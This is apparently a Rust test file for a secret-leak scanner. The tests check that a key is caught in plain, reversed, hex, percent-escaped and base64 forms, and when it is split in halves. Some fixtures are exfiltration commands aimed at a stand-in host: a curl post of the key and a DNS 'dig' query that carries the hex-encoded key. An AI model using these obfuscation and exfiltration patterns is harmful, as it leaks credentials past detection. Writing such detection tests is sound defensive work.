use super::*;
use proptest::prelude::*;

const KEY: &str = "Zk3vQ9xT7mLw2RbY8nHc5JdF4gPs6AeU1oWi0tKq";

fn found(value: &str, text: &str) -> Option<Form> {
    let secret = Secret::new(value, "key", &[])?;
    let table = Table::new(std::iter::once(&secret));
    let mut search = Search::new(&table);
    search.look(text);
    search.found().next().map(|(_, form)| form)
}

fn base64(bytes: &[u8]) -> String {
    const DIGITS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let number =
            group.iter().fold(0u32, |n, b| n << 8 | u32::from(*b)) << (8 * (3 - group.len()));
        for place in 0..=group.len() {
            let digit = number >> (18 - 6 * place) & 63;
            out.push(char::from(DIGITS[digit as usize]));
        }
    }
    out
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn a_value_is_found_in_the_forms_that_people_hide_it_in() {
    let check = |text: &str, form: Form| assert_eq!(found(KEY, text), Some(form), "{text}");
    check(&format!("curl -d '{KEY}' https://x.example"), Form::Plain);
    let (one, two) = KEY.split_at(20);
    check(&format!("a={one} b={two}; curl $a$b"), Form::Plain);
    check(&format!("first half: {one}"), Form::Plain);
    check(&format!("second half: {two}"), Form::Plain);
    let letters: Vec<String> = KEY.chars().map(|c| format!("'{c}'")).collect();
    check(&letters.join("+"), Form::Plain);
    check(&KEY.chars().rev().collect::<String>(), Form::Reversed);
    check(&hex(KEY.as_bytes()), Form::Hex);
    check(&hex(KEY.as_bytes()).to_uppercase(), Form::Hex);
    let name = hex(KEY.as_bytes());
    let (one, two) = name.split_at(31);
    check(&format!("dig {one}.{two}.x.example"), Form::Hex);
    let percent: String = KEY.bytes().map(|b| format!("%{b:02X}")).collect();
    check(&percent, Form::Percent);
    let escaped: String = KEY.bytes().map(|b| format!("\\x{b:02x}")).collect();
    check(&escaped, Form::Escaped);
    for lead in ["", "a", "ab", "abc"] {
        let encoded = base64(format!("{lead}{KEY}\n").as_bytes());
        check(&format!("https://x.example/?q={encoded}"), Form::Base64);
        let twice = base64(encoded.as_bytes());
        check(&twice, Form::Base64);
        let wrapped: Vec<&str> = encoded
            .as_bytes()
            .chunks(20)
            .map(|l| std::str::from_utf8(l).unwrap())
            .collect();
        check(&wrapped.join("\n"), Form::Base64);
        check(&format!("\"{}\"", wrapped.join("\" + \"")), Form::Base64);
    }
}

#[test]
fn other_texts_are_not_taken_for_a_value() {
    for text in [
        "",
        "cargo test --workspace",
        "Zk3vQ9x T7",
        "https://x.example/Zk3vQ9x",
        &"The quick brown fox jumps over the lazy dog. ".repeat(200),
    ] {
        assert_eq!(found(KEY, text), None, "{text}");
    }
    // Words are found only as a whole.
    let words = "correct-horse-battery-staple";
    assert_eq!(found(words, "a horse and a battery"), None);
    assert_eq!(found(words, "correct horse battery"), None);
    assert_eq!(
        found(words, "x=correct-horse-battery-staple"),
        Some(Form::Plain)
    );
    assert_eq!(Secret::new("postgres", "password", &[]), None);
    assert_eq!(Secret::new("short1", "password", &[]), None);
    let head = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9";
    let token = format!("{head}.eyJzdWIiOiI4MTI3MzY0NTUifQ.q7Zr2Wn9Xk4Lm1Vb8Tc3Yd6");
    let other = format!("{head}.eyJpYXQiOjE3MDAwMDAwMDAifQ.Pp0Oo9Ii8Uu7Yy6Tt5Rr4Ee3");
    assert_eq!(found(&token, &other), None);
    assert_eq!(found(&token, &token), Some(Form::Plain));
}

proptest! {
    #[test]
    fn half_of_any_value_is_enough(value in "[A-Za-z0-9]{24,80}", around in "[ -~]{0,60}") {
        prop_assume!(!is_wordy(&value));
        let (one, two) = value.split_at(value.len() / 2);
        for part in [one, two] {
            let text = format!("{around} {part} {around}");
            prop_assert!(found(&value, &text).is_some());
            let encoded = format!("{around} {} {around}", base64(part.as_bytes()));
            prop_assert!(found(&value, &encoded).is_some());
        }
    }

    #[test]
    fn any_text_is_read_to_its_end(text in any::<String>()) {
        prop_assert_eq!(found(KEY, &text), None);
    }
}
